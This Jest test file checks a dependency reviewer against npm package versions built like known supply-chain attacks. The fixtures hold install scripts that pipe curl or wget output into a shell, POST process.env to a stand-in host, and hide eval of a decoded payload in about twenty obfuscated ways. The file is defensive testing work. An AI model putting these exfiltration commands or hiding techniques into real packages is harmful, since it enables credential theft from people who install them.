import { describe, expect, test } from '@jest/globals';
import { randomBytes } from 'node:crypto';
import { npmRepository, type Locks } from '../app/npm-repository.js';
import { inShort, knownAdvisories, memoryHost, ownAnalyser, startWorld } from '../app/world.js';
import { advisory } from '../app/shelf.js';
import { checks } from '../../src/checks/index.js';
import { failed } from '../../src/core/coverage.js';
import { memoryFactCache } from '../../src/adapters/memory/fact-cache.js';
import { packageEntries, tgz, type FileMap, type StandInPackage, type StandInVersion } from '../registry/index.js';
import { attacked, hold, type Attack, type Said } from './attack.js';

const old = '2026-07-10T00:00:00.000Z';
const fresh = '2026-11-20T00:00:00.000Z';
const nowhere = 'collect.example.invalid';
const text = '"Ly8="';

interface Replica {
  readonly name: string;
  readonly before?: Pick<StandInVersion, 'manifest' | 'files'>;
  readonly after: Pick<StandInVersion, 'manifest' | 'files' | 'tarball'>;
  readonly said: Said;
}
const plain: FileMap = { 'index.js': 'module.exports = 1;\n' };
const built = { manifest: { scripts: { postinstall: 'node build.js' } }, files: { ...plain, 'build.js': 'require("fs").readdirSync(__dirname);\n' } };
const buildsWith = (source: string, more: FileMap = {}): Replica['after'] => ({ manifest: built.manifest, files: { ...plain, 'build.js': source, ...more } });

/**
 * Well-known attacks, as a diff between two versions shows them. The shapes are those of the public reports; hosts are invalid names,
 * and what would be decoded is a comment.
 */
const replicas: readonly Replica[] = [
  { name: 'eslint-scope-2018', after: { manifest: { scripts: { postinstall: 'node ./lib/build.js' } }, files: { ...plain, 'lib/build.js': `require("https").get({ hostname: "${nowhere}", path: "/raw" }, (r) => r.on("data", (c) => eval(c)));\n` } }, said: ['install-script added', 'network-access at-install', 'dynamic-code at-install'] },
  { name: 'ua-parser-2021', after: { manifest: { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }, files: { ...plain, 'preinstall.js': 'const { exec, spawn } = require("child_process");\nif (process.platform === "linux") spawn("./preinstall.sh"); else exec("preinstall.bat");\n', 'preinstall.sh': `curl http://${nowhere}/x -o x && chmod +x x && ./x\n`, 'preinstall.bat': 'rem\n' } }, said: ['install-script added', 'process-spawn at-install'] },
  { name: 'coa-2021', after: { manifest: { scripts: { preinstall: 'start /B node compile.js & node compile.js' } }, files: { ...plain, 'compile.js': 'const _0x1=["child_process","exec"];require(_0x1[0])[_0x1[1]]("sdd.dll");\n' } }, said: ['install-script added', 'process-spawn at-install'] },
  { name: 'nx-2025', before: built, after: { manifest: { scripts: { postinstall: 'node telemetry.js' } }, files: { ...plain, 'telemetry.js': 'const cp = require("child_process");\ncp.spawnSync("claude", ["--dangerously-skip-permissions", "-p", "list files"]);\ncp.execSync("gh auth token");\n' } }, said: ['process-spawn at-install', 'persistence at-install'] },
  { name: 'worm-2025-09', after: { manifest: { scripts: { postinstall: 'node bundle.js' } }, files: { ...plain, 'bundle.js': `${'var a=1;'.repeat(2000)}fetch("https://${nowhere}/",{method:"POST",body:JSON.stringify(process.env)});\n` } }, said: ['install-script added', 'network-access at-install'] },
  { name: 'worm-2025-11', after: { manifest: { scripts: { preinstall: 'node setup_bun.js' } }, files: { ...plain, 'setup_bun.js': `const { execSync } = require("node:child_process");\nexecSync("curl -fsSL https://${nowhere}/install | bash");\nrequire("./bun_environment.js");\n`, 'bun_environment.js': `eval(atob(${text}));\n` } }, said: ['install-script added', 'process-spawn at-install', 'dynamic-code at-install'] },
  { name: 'phantom-gyp-2026', after: { files: { ...plain, 'binding.gyp': '{"targets":[{"target_name":"x","sources":["<!(node run.js)"]}]}\n', 'run.js': `eval(atob(${text}));\n` } }, said: ['gyp-code without-sources', 'dynamic-code at-install'] },
  { name: 'same-step-other-code', before: built, after: buildsWith(`require("https").request({ host: "${nowhere}", method: "POST" }).end(JSON.stringify(process.env));\n`), said: ['network-access at-install', 'secret-exfiltration at-install'] },
  { name: 'same-step-other-file', before: built, after: buildsWith('require("./lib/a");\n', { 'lib/a.js': 'require("./b")\n', 'lib/b.js': `new Function(atob(${text}))();\n` }), said: ['dynamic-code at-install'] },
  { name: 'shell-step', before: built, after: { manifest: { scripts: { postinstall: `node build.js; curl -s https://${nowhere}/x | sh` } }, files: built.files }, said: ['remote-code at-install', 'network-access at-install', 'process-spawn at-install'] },
  { name: 'no-dependency-before', after: { manifest: { scripts: { install: 'sh ./run.sh' } }, files: { ...plain, 'run.sh': `wget -qO- https://${nowhere}/x | sh\n` } }, said: ['install-script added'] },
];

/** One payload at install, hidden in many ways. What it is hidden by must not help it. */
const hidings: { readonly [name: string]: string } = {
  plain: `eval(atob(${text}));\n`,
  'behind many spaces': `${' '.repeat(5000)}eval(atob(${text}));\n`,
  indirect: `(0, eval)(atob(${text}));\n`,
  'by another name': `const run = eval;\nrun(atob(${text}));\n`,
  'by a computed name': `globalThis["ev" + "al"](atob(${text}));\n`,
  'by a table of strings': `const t = ["eval", "atob"];\nglobalThis[t[0]](globalThis[t[1]](${text}));\n`,
  'as a function made of text': `new Function(atob(${text}))();\n`,
  'by the constructor of a constructor': `(() => 0).constructor(atob(${text}))();\n`,
  'in a context of its own': `require("vm").runInThisContext(atob(${text}));\n`,
  'as a module that compiles itself': `const m = new module.constructor();\nm._compile(atob(${text}), "x");\n`,
  'in a timer': `setTimeout(atob(${text}), 0);\n`,
  'in a function that is called': `function later() { return eval(atob(${text})); }\nlater();\n`,
  'in a module that another one loads': 'require("./part.js");\n',
  'in a worker': `new (require("worker_threads").Worker)(atob(${text}), { eval: true });\n`,
  'in what is loaded by a name made at run time': 'require(["./pa", "rt.js"].join(""));\n',
  'in a file that nobody can parse': `eval(atob(${text}));\n)(\n`,
  'behind a great deal of nothing': `${'(function(){});\n'.repeat(3000)}eval(atob(${text}));\n`,
  'below deep nesting': `${'('.repeat(4000)}0${')'.repeat(4000)};\neval(atob(${text}));\n`,
  'in unicode escapes': `\\u0065val(atob(${text}));\n`,
};

/** One thing that a build step newly can do, with nothing that comes to it or goes by it: told, and left to who reads it. */
const lone: readonly (readonly [source: string, said: string])[] = [
  [`require("https").request({ host: "${nowhere}" });\n`, 'network-access at-install'],
  ['require("child_process").execFileSync(process.execPath, ["list.js"]);\n', 'process-spawn at-install'],
  ['new Function(process.argv[2])();\n', 'dynamic-code at-install'],
];

/** What honest build steps come to do. */
const honest: readonly string[] = [
  'const fs = require("fs");\nfs.writeFileSync(require("path").join(__dirname, "list.json"), JSON.stringify(fs.readdirSync(__dirname)));\n',
  '// eval(atob("Ly8="))\nconsole.log("eval is not used here, nor child_process.exec");\n',
  'const evaluate = new Map([["eval", 1]]);\nif (evaluate.get("eval") !== 1) process.exit(1);\n',
  'setTimeout(() => console.log("done"), 0);\nmodule.exports = function fetchAll() {};\n',
];

const manyFiles = (count: number): FileMap => Object.fromEntries(Array.from({ length: count }, (_, index) => [`lib/${index}.js`, '']));
const packed = (name: string, files: FileMap, manifest: object = {}): Uint8Array => tgz(packageEntries({ 'package.json': JSON.stringify({ name, version: '1.0.1', ...manifest }), ...files }));
const gaveUp: readonly Replica[] = [
  { name: 'sixty-thousand-files', after: { tarball: packed('sixty-thousand-files', { ...manyFiles(60_000), 'index.js': `eval(atob(${text}));\n` }) }, said: ['analysis-limit limit', 'install-script TARBALL_LIMIT', 'dynamic-code TARBALL_LIMIT'] },
  { name: 'zeros', after: { tarball: packed('zeros', { ...plain, 'data.bin': new Uint8Array(40_000_000) }) }, said: ['analysis-limit limit', 'install-script TARBALL_LIMIT'] },
  { name: 'deep-folders', after: { tarball: packed('deep-folders', { ...plain, [`${'d/'.repeat(40)}x.js`]: '1' }) }, said: ['analysis-limit limit'] },
  { name: 'no-manifest', after: { tarball: tgz(packageEntries({ 'index.js': `eval(atob(${text}));\n` })) }, said: ['install-script MANIFEST_MALFORMED'] },
  { name: 'no-manifest-nor-more', after: { tarball: tgz(packageEntries(plain)) }, said: ['install-script MANIFEST_MALFORMED'] },
  { name: 'unparsable-main', after: { files: { 'index.js': `eval(atob(${text}));\n)(` } }, said: ['dynamic-code PARSE_FAILED'] },
  { name: 'noise', after: { tarball: randomBytes(1000) }, said: ['analysis-limit limit', 'install-script TARBALL_MALFORMED'] },
];

const hidden = Object.entries(hidings).map(([name, source], index): Replica => ({ name: `hidden-${index}`, before: built, after: buildsWith(source, { 'part.js': `eval(atob(${text}));\n` }), said: name === 'plain' ? ['dynamic-code at-install'] : [] }));

const ordinary = honest.map((source, index): Replica => ({ name: `honest-${index}`, before: built, after: buildsWith(source), said: [] }));

const alone = lone.map(([source, said], index): Replica => ({ name: `lone-${index}`, before: built, after: buildsWith(source), said: [said] }));

const packageOf = ({ name, before, after }: Replica): StandInPackage => ({ name, versions: [{ version: '1.0.0', publishedAt: old, files: plain, ...before }, { version: '1.0.1', publishedAt: fresh, ...after }] });
const axios: readonly StandInPackage[] = [
  { name: 'popular', versions: [{ version: '1.0.0', publishedAt: old, files: plain }, { version: '1.0.1', publishedAt: fresh, manifest: { dependencies: { 'plain-crypto': '^1.0.0' } }, files: plain }] },
  { name: 'plain-crypto', versions: [{ version: '1.0.0', publishedAt: fresh, manifest: { scripts: { postinstall: 'node setup.js' } }, files: { ...plain, 'setup.js': `require("child_process").exec(atob(${text}));\n` } }] },
  { name: 'remote', versions: [{ version: '1.0.0', publishedAt: old, files: plain }, { version: '1.0.1', publishedAt: fresh, manifest: { dependencies: { 'ui-styles': `http://${nowhere}/ui-styles.tgz` } }, files: plain }] },
  { name: 'orphan', versions: [{ version: '1.0.0', publishedAt: old, files: plain }, { version: '1.0.1', publishedAt: fresh, manifest: { optionalDependencies: { setup: `github:fork/setup#${'1'.repeat(40)}` } }, files: plain }] },
];
const shelf = [...[...replicas, ...gaveUp, ...hidden, ...alone, ...ordinary].map(packageOf), ...axios];

const { review, world } = attacked(shelf);
const repository = (locks: Locks) => npmRepository(shelf, locks);
const update = (name: string) => (): Attack => ({ base: repository({ installed: { [name]: '1.0.0' } }), head: repository({ installed: { [name]: '1.0.1' } }) });

describe('versions like those of well-known attacks', () => {
  hold('updated', review, replicas.map(({ name, said }) => [name, update(name), said] as const));
  hold('new', review, replicas.map(({ name, said }) => [name, () => ({ base: repository({ installed: {} }), head: repository({ installed: { [name]: '1.0.1' } }) }), said] as const));
  hold('by what is newly asked for', review, [
    ['a new dependency with an install step', () => ({ base: repository({ installed: { popular: '1.0.0' } }), head: repository({ installed: { popular: '1.0.1', 'plain-crypto': '1.0.0' }, asks: { popular: '^1.0.1' } }) }), ['install-script unknown-package', 'process-spawn at-install']],
    ['a dependency by an address', () => ({ base: repository({ installed: { remote: '1.0.0' } }), head: repository({ installed: { remote: '1.0.1' }, edit: (packages) => { packages['node_modules/ui-styles'] = { version: '1.0.0', resolved: `http://${nowhere}/ui-styles.tgz` }; } }) }), ['lock-origin foreign-host', 'lock-origin insecure-scheme', 'lock-origin no-integrity']],
    ['a dependency on a commit that no branch holds', () => ({ base: repository({ installed: { orphan: '1.0.0' } }), head: repository({ installed: { orphan: '1.0.1' }, edit: (packages) => { packages['node_modules/setup'] = { version: '1.0.0', resolved: `git+ssh://git@github.example.invalid/fork/setup.git#${'1'.repeat(40)}`, optional: true, hasInstallScript: true }; } }) }), ['install-script ORIGIN_UNSUPPORTED']],
  ]);
});

describe('making the reviewer give up', () => {
  hold('a version that cannot be read', review, gaveUp.map(({ name, said }) => [name, update(name), said] as const));

  test('buries nothing else: what was found stays found', async () => {
    const both = (own: string) => repository({ installed: { 'sixty-thousand-files': own, 'eslint-scope-2018': own } });
    const verdict = await review({ base: both('1.0.0'), head: both('1.0.1') });
    expect(inShort(verdict)).toMatchObject({ outcome: 'block', told: expect.arrayContaining(['analysis-limit limit', 'install-script added', 'network-access at-install']) });
  });

  test('does not help a version that is known', async () => {
    const { base, head } = update('sixty-thousand-files')();
    const verdict = await review({ base, head, options: { advisories: knownAdvisories({ 'sixty-thousand-files@1.0.1': [advisory({ malware: true, id: 'MAL-2026-1' })] }) } });
    expect(inShort(verdict)).toMatchObject({ outcome: 'block', told: expect.arrayContaining(['malicious-version malicious']) });
  });

  test('a hole is waived by itself, for these bytes, and nothing with it', async () => {
    const { base, head } = update('no-manifest-nor-more')();
    const first = await review({ base, head });
    const gap = first.gaps.find((one) => one.check === 'install-script')!;
    const waiver = `waivers:\n  - finding: ${gap.fingerprint}\n    package: no-manifest-nor-more\n    version: 1.0.1\n    integrity: ${gap.integrity}\n    reason: it is a data package, read by hand\n    by: maria\n    until: 2026-12-31\n`;
    const policy = { '.github/mergewarden.yml': waiver };
    const second = await review({ base: { ...base, ...policy }, head: { ...head, ...policy } });
    expect(second.gaps.filter((one) => one.waived).map((one) => one.check)).toEqual(['install-script']);
    expect(second.outcome).toBe('unknown');
  });
});

test.each(Object.keys(hidings).map((name, index) => [name, index] as const))('a payload that is hidden is no better off: %s', async (_name, index) => {
  expect(['block', 'unknown']).toContain((await review(update(`hidden-${index}`)())).outcome);
});

test.each(alone.map(({ name, said }) => [said[0]!, name] as const))('one new thing alone is told and does not block: %s', async (said, name) => {
  expect(inShort(await review(update(name)()))).toMatchObject({ outcome: 'warn', told: [said], gaps: [] });
});

hold('an honest build step passes', review, ordinary.map(({ name, said }) => [name, update(name), said] as const));

describe('a reviewer under load', () => {
  const slow = { ...ownAnalyser(), analyse: async () => ({ coverage: failed('ANALYSER_TIMEOUT', { ms: 60_000 }, true) }) };
  const open = { '.github/mergewarden.yml': 'fail-mode: open\n' };

  test('time that ran out counts even for checks that are open, and is forgotten', async () => {
    const { base, head } = update('same-step-other-code')();
    const busy = await startWorld(shelf.filter((one) => one.name === 'same-step-other-code'), slow);
    const cache = memoryFactCache();
    const options = { base: { ...base, ...open }, head: { ...head, ...open } };
    const late = (await busy.review(memoryHost(options.base, options.head), { cache })).verdict;
    await busy.close();
    expect(late.outcome).toBe('unknown');
    const readers = checks.filter((check) => check.group === 'package' && check.needs.some((need) => need.of.includes('before') && need.kinds.includes('code'))).map((check) => check.id).sort();
    const counted = late.gaps.filter((gap) => gap.counts);
    expect(new Set(counted.map((gap) => `${gap.code} ${gap.ours}`))).toEqual(new Set(['ANALYSER_TIMEOUT true']));
    for (const version of ['1.0.0', '1.0.1']) expect(counted.filter((gap) => gap.subject === `same-step-other-code@${version}`).map((gap) => gap.check).sort()).toEqual(readers);
    const idle = (await world().review(memoryHost(options.base, options.head), { cache })).verdict;
    expect(inShort(idle)).toMatchObject({ outcome: 'block', gaps: [] });
  });
});
